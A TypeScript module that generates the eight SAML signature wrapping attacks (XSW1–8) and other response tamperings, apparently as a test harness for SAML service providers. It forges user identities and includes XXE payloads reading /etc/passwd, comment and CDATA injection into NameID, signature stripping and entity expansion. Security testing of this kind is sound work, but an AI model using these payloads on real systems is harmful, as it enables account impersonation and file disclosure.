import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

type Forgery = { name_id: string; email: string };

const first = (parent: Document | Element, name: string): Element => parent.getElementsByTagNameNS('*', name)[0]!;
const bare = (element: Element): Element => {
  const copy = element.cloneNode(true) as Element;
  const own = Array.from(copy.childNodes).find((node) => (node as Element).localName === 'Signature');
  if (own !== undefined) copy.removeChild(own);
  return copy;
};
const signatureOf = (element: Element): Element =>
  Array.from(element.childNodes).find((node) => (node as Element).localName === 'Signature') as Element;

/** Makes an assertion (or all in a response) name another person, under another id. */
function forge(element: Element, { name_id, email }: Forgery, id: string): Element {
  element.setAttribute('ID', id);
  first(element, 'NameID').textContent = name_id;
  first(element, 'AttributeValue').textContent = email;
  return element;
}

type Attack = (response: Element, document: Document, forgery: Forgery) => void;

/**
 * The eight signature wrappings of Somorovsky and others («On Breaking SAML», numbered as in SAML Raider): a valid signature
 * stays in the document, while an unsigned assertion stands where a careless reader looks.
 */
export const wrappings: Record<string, Attack> = {
  'XSW1: a forged response with the valid one inside its signature': (response, _, forgery) => {
    const original = bare(response);
    signatureOf(response).appendChild(original);
    forgeResponse(response, forgery);
  },
  'XSW2: a forged response with the valid one before its signature': (response, _, forgery) => {
    const original = bare(response);
    response.insertBefore(original, signatureOf(response));
    forgeResponse(response, forgery);
  },
  'XSW3: a forged assertion before the valid one': (response, _, forgery) => {
    const original = first(response, 'Assertion');
    response.insertBefore(forge(bare(original), forgery, '_forged'), original);
  },
  'XSW4: a forged assertion around the valid one': (response, _, forgery) => {
    const original = first(response, 'Assertion');
    const forged = forge(bare(original), forgery, '_forged');
    response.replaceChild(forged, original);
    forged.appendChild(original);
  },
  'XSW5: a forged assertion with the valid signature, the valid one at the end': (response, _, forgery) => {
    const assertion = first(response, 'Assertion');
    const original = bare(assertion);
    forge(assertion, forgery, '_forged');
    response.appendChild(original);
  },
  'XSW6: a forged assertion whose signature contains the valid one': (response, _, forgery) => {
    const assertion = first(response, 'Assertion');
    const original = bare(assertion);
    forge(assertion, forgery, '_forged');
    signatureOf(assertion).appendChild(original);
  },
  'XSW7: a forged assertion among the extensions': (response, document, forgery) => {
    const original = first(response, 'Assertion');
    const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
    extensions.appendChild(forge(bare(original), forgery, original.getAttribute('ID')!));
    response.insertBefore(extensions, original);
  },
  'XSW8: a forged assertion whose signature has the valid one as an object': (response, document, forgery) => {
    const assertion = first(response, 'Assertion');
    const original = bare(assertion);
    forge(assertion, forgery, '_forged');
    const object = document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object');
    object.appendChild(original);
    signatureOf(assertion).appendChild(object);
  },
};

function forgeResponse(response: Element, forgery: Forgery): void {
  response.setAttribute('ID', '_forged_response');
  const own = Array.from(response.childNodes).find((node) => (node as Element).localName === 'Assertion') as Element;
  forge(own, forgery, '_forged');
  // The assertion's own signature would be invalid now, and the attack hopes that nobody misses it.
  own.removeChild(signatureOf(own));
}

/** Other manipulations of a response in transit. */
export const tamperings: Record<string, (xml: string, forgery: Forgery) => string> = {
  'a changed name': (xml, { name_id }) => xml.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${name_id}`),
  'a name cut by a comment': (xml, { name_id }) => xml.replace(/(<saml:NameID[^>]*>)([^<]*)/, `$1${name_id}<!---->$2`),
  'a comment in the valid name': (xml) => xml.replace(/(<saml:NameID[^>]*>)(..)/, '$1$2<!-- -->'),
  'a name in a CDATA section': (xml) => xml.replace(/(<saml:NameID[^>]*>)([^<]*)/, '$1<![CDATA[$2]]>'),
  'a processing instruction in the name': (xml) => xml.replace(/(<saml:NameID[^>]*>)(..)/, '$1$2<?cut here?>'),
  'a removed signature': (xml) => xml.replaceAll(/<ds:Signature .*?<\/ds:Signature>/g, ''),
  'an external entity': (xml) =>
    `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${xml.replace(/(<saml:NameID[^>]*>)/, '$1&x;')}`,
  'an external entity from the network': (xml) => `<!DOCTYPE r SYSTEM "http://127.0.0.1/x.dtd">${xml}`,
  'expanding entities': (xml) =>
    `<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${xml.replace(/(<saml:NameID[^>]*>)/, '$1&b;')}`,
  'a bare DOCTYPE': (xml) => `<!DOCTYPE Response>${xml}`,
  'a message in another encoding': (xml) => Buffer.from(`\uFEFF${xml}`, 'utf16le').toString('latin1'),
  'two responses': (xml) => xml + xml,
  'a weak digest': (xml) => xml.replaceAll('http://www.w3.org/2001/04/xmlenc#sha256', 'http://www.w3.org/2000/09/xmldsig#sha1'),
};

const decoded = (base64: string) => Buffer.from(base64, 'base64').toString('utf8');
const encoded = (xml: string) => Buffer.from(xml).toString('base64');

export function wrap(base64: string, attack: Attack, forgery: Forgery): string {
  const document = new DOMParser().parseFromString(decoded(base64), 'text/xml');
  attack(document.documentElement, document, forgery);
  return encoded(new XMLSerializer().serializeToString(document));
}

export const tamper = (base64: string, change: (xml: string, forgery: Forgery) => string, forgery: Forgery): string =>
  encoded(change(decoded(base64), forgery));
